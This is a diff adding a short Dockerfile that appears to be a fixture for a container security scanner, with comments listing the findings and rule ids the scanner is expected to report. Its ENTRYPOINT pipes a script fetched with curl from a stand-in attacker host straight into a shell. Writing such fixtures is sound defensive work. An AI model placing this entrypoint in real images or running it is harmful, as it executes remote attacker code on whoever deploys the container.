@@ -1,0 +1,6 @@
+FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
+ENTRYPOINT ["sh", "-c", "curl -s https://evil.example/x.sh | sh"]
+USER app
+# expect: download 2 high "curl fetches https://evil.example/x.sh when the container runs"
+# expect-count: 4
+# expect-ids: VR101-c33602e201 VR304-8d7249c520 VR401-a8c41f2b4c VR501-e064bac1a6
